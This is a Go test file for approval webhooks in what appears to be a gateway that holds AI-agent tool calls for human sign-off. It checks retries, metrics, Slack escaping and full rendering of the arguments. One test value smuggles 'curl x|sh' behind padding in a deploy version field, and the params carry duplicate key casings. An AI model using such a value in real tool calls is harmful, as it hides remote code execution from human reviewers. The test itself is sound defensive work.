package approvals

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/stretchr/testify/require"
)

func TestWebhooks(t *testing.T) {
	var mu sync.Mutex
	var bodies []map[string]any
	fails := 2
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		if fails > 0 {
			fails--
			w.WriteHeader(http.StatusServiceUnavailable)
			return
		}
		b, _ := io.ReadAll(r.Body)
		var m map[string]any
		_ = json.Unmarshal(b, &m)
		bodies = append(bodies, m)
	}))
	t.Cleanup(srv.Close)
	gone := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNotFound) }))
	t.Cleanup(gone.Close)

	cfg := DefaultConfig().Notify
	cfg.Backoff = time.Millisecond
	cfg.Webhooks = []WebhookConfig{{URL: srv.URL, Format: "json"}, {URL: srv.URL, Format: "slack"}, {URL: gone.URL, Format: "json"}}
	reg := prometheus.NewRegistry()
	w, err := NewWebhooks(cfg, func(id string) string { return "https://gw.example/approvals#" + id }, nil, nil, reg)
	require.NoError(t, err)
	done := make(chan struct{})
	go func() { defer close(done); w.Run(t.Context()) }()
	t.Cleanup(func() { <-done })

	r := Request{
		ID: "R1", Tool: "deploy", Requester: Party{Subject: "agent-<1>", Issuer: "https://idp.test", Groups: []string{"agents"}},
		Rule: "deploys", Message: "deploys need a release manager", PolicyVersion: "sha256:abc",
		Route: Route{Authority: "tools:8080", Path: "/mcp"}, SessionID: "sess-1",
		Arguments: json.RawMessage(`{"env":"prod","version":` + strconvQuote(padded) + `}`),
		Params:    json.RawMessage(`{"Arguments":{"env":"dev"},"arguments":{"env":"prod","version":` + strconvQuote(padded) + `},"name":"deploy"}`),
	}
	w.Notify(r)
	require.Eventually(t, func() bool {
		return counter(t, reg, "mcpguard_approvals_notifications_total", "failed") == 1
	}, 10*time.Second, 5*time.Millisecond)

	mu.Lock()
	defer mu.Unlock()
	require.Len(t, bodies, 2, "both formats delivered after retries")
	require.Equal(t, "https://gw.example/approvals#R1", bodies[0]["approve_url"])
	a := bodies[0]["approval"].(map[string]any)
	require.Equal(t, "deploy", a["tool"])
	require.Equal(t, "deploys need a release manager", a["message"])
	require.Equal(t, "sha256:abc", a["policy_version"])
	require.Equal(t, "sess-1", a["session_id"])
	require.Equal(t, []any{"agents"}, a["requester"].(map[string]any)["groups"])
	require.Equal(t, padded, a["params"].(map[string]any)["arguments"].(map[string]any)["version"], "complete, never cut")
	require.Len(t, a["fields"], 4)
	require.Contains(t, bodies[1]["text"], "https://gw.example/approvals#R1")
	require.Contains(t, bodies[1]["text"], "agent-&lt;1&gt;")
	slack, err := json.Marshal(bodies[1]["blocks"])
	require.NoError(t, err)
	for _, want := range []string{
		"deploys need a release manager", "params.arguments.version = 1.4.2␠×600&& curl x|sh",
		"params.Arguments.env = dev", "tools:8080/mcp", "sess-1", "sha256:abc", "https://idp.test",
	} {
		require.Contains(t, strings.ReplaceAll(string(slack), `\u0026`, "&"), slackEscape(want))
	}
	require.InDelta(t, 2.0, counter(t, reg, "mcpguard_approvals_notifications_total", "sent"), 1e-9)
}

func TestWebhooksQueueFull(t *testing.T) {
	cfg := DefaultConfig().Notify
	cfg.QueueSize = 1
	cfg.Webhooks = []WebhookConfig{{URL: "http://127.0.0.1:1/", Format: "json"}}
	reg := prometheus.NewRegistry()
	w, err := NewWebhooks(cfg, func(string) string { return "" }, nil, nil, reg)
	require.NoError(t, err)
	w.Notify(Request{ID: "a"})
	w.Notify(Request{ID: "b"}) // nobody runs the queue: dropped
	require.InDelta(t, 1.0, counter(t, reg, "mcpguard_approvals_notifications_total", "dropped"), 1e-9)
}

func counter(t *testing.T, reg *prometheus.Registry, name, result string) float64 {
	t.Helper()
	mf, err := reg.Gather()
	require.NoError(t, err)
	for _, f := range mf {
		if f.GetName() == name {
			for _, m := range f.GetMetric() {
				if m.GetLabel()[0].GetValue() == result {
					return m.GetCounter().GetValue()
				}
			}
		}
	}
	return 0
}
